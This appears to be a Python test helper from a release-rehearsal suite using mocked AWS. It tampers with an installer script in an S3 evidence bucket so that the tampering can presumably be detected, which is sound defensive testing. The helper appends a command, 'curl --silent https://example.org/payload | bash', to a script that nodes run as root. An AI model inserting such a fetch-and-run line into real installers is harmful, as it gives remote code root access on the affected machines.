"""Change an installer in the evidence bucket before users are on the release."""

from changeover.upgrade.candidate.installer import folder_of
from rehearsal.stage import CANDIDATE, Stage

_COMMAND = b"\ncurl --silent https://example.org/payload | bash\n"


def tamper_with_installer(stage: Stage) -> str:
    """Add a command to a script that the candidate's nodes run as root. Return the object's key.

    On AWS the bucket's policy refuses such a write. moto ignores the policy's conditions.
    """
    s3, bucket = stage.aws.client("s3"), stage.outputs["EvidenceBucketName"]
    listed = s3.list_objects_v2(Bucket=bucket, Prefix=f"{folder_of(CANDIDATE)}/")["Contents"]
    key = min(each["Key"] for each in listed if each["Key"].endswith(".sh"))
    script = s3.get_object(Bucket=bucket, Key=key)["Body"].read()
    s3.put_object(Bucket=bucket, Key=key, Body=script + _COMMAND)
    return str(key)
